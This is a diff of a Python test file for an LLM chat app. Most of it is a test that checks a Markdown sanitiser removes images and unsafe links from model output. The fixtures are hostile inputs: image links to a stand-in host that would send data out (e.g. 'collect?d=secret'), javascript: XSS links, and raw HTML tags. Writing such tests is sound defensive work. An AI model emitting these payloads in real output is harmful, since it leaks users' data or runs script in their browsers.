@@ -307,7 +307,8 @@ def _figure(url: str) -> str:
     """Ask the chat for a softmax; the URL path of the figure it shows."""
     from gradio_client import Client
 
-    result = Client(url + "/", verbose=False).predict("softmax of [1, 2, 3] at temperature 0.5", api_name="/respond")
+    client = Client(url + "/", verbose=False, download_files=False)  # the server's URL, not a local copy
+    result = client.predict("softmax of [1, 2, 3] at temperature 0.5", api_name="/respond")
     found = re.search(r"/gradio_api/file=[^'\"\s]+\.png", str(result))
     assert found, result
     return found.group()
@@ -389,7 +390,7 @@ def test_engine_reads_only_recent_clipped_turns(base_settings):
     from glossarian.history import READ_CHARS, READ_TURNS, check_history
 
     turns = [Turn("user", f"turn {i} " + "x" * 5000) for i in range(6)] * 5
-    read = check_history(turns, base_settings)
+    read = check_history(turns, base_settings.with_(history_max_chars=200_000))
     assert len(read) == READ_TURNS and all(len(t.content) <= READ_CHARS for t in read)
     assert read[-1].content.startswith("turn 5")
 
@@ -397,25 +398,29 @@ def test_engine_reads_only_recent_clipped_turns(base_settings):
 # ------------------------------------------------------------------------------------------ 6. LLM Markdown
 
 
-@pytest.mark.parametrize("markdown,kept,gone", [
-    ("![t](http://evil.example/track.png)", [], ["![t]("]),
-    ("see [docs](javascript:alert(1))", [], ["[docs](javascript"]),
-    ("[more](http://evil.example/phish)", ["[more](http://evil.example/phish)"], []),
-    ("[x](mailto:a@b.c) [y](data:text/html,hi) [z](/relative)", [], ["](mailto", "](data", "](/relative"]),
-    ("[r][ref]\n\n[ref]: http://evil.example/ref.png", [], ["[r][ref]", "\n[ref]:"]),
-    ("\\`![t](http://evil.example/t.png)`", [], ["![t]("]),
-    ("`code ![t](http://a/b.png)` stays code", ["`code ![t](http://a/b.png)`"], []),
-    ("<img src=http://evil.example/x.png>", [], ["<img"]),
-    ("[![i](http://evil.example/i.png)](https://ok.example/)", [], ["![i]("]),
-])
-def test_llm_markdown_is_made_inert(markdown, kept, gone):
+LLM_MARKDOWN = [
+    "![t](http://evil.example/track.png) and ![leak](http://evil.example/collect?d=secret)",
+    "see [docs](javascript:alert(1)) and [more](http://evil.example/phish)",
+    "[x](mailto:a@b.c) [y](data:text/html,hi) [z](/relative) [w](JaVaScRiPt:alert(1))",
+    "[r][ref] and ![i][ref]\n\n[ref]: http://evil.example/ref.png",
+    "\\`![t](http://evil.example/t.png)` and \\\\![u](http://evil.example/u.png)",
+    "`code ![t](http://evil.example/c.png)` and ``x ` ![d](http://evil.example/d.png) ``",
+    "```\n![f](http://evil.example/f.png)\n```\n![g](http://evil.example/g.png)",
+    "<img src=http://evil.example/x.png> <a href='javascript:alert(1)'>a</a>",
+    "[![i](http://evil.example/i.png)](https://ok.example/) <http://evil.example/auto.png>",
+]
+
+
+@pytest.mark.parametrize("markdown", LLM_MARKDOWN, ids=range(len(LLM_MARKDOWN)))
+def test_llm_markdown_renders_without_images_or_odd_links(markdown):
+    from markdown_it import MarkdownIt
+
     from glossarian.web.render import escape_markdown
 
-    safe = escape_markdown(markdown)
-    for text in kept:
-        assert text in safe, safe
-    for text in gone:
-        assert text not in safe, safe
+    html = MarkdownIt("commonmark").render(escape_markdown(markdown))  # a strict renderer, raw HTML allowed
+    assert "<img" not in html, html
+    assert all(href.startswith(("http://", "https://")) for href in re.findall(r'<a href="([^"]*)"', html)), html
+    assert "evil.example/phish" not in markdown or '<a href="http://evil.example/phish">more</a>' in html
 
 
 def test_pages_forbid_remote_images(serve_with):
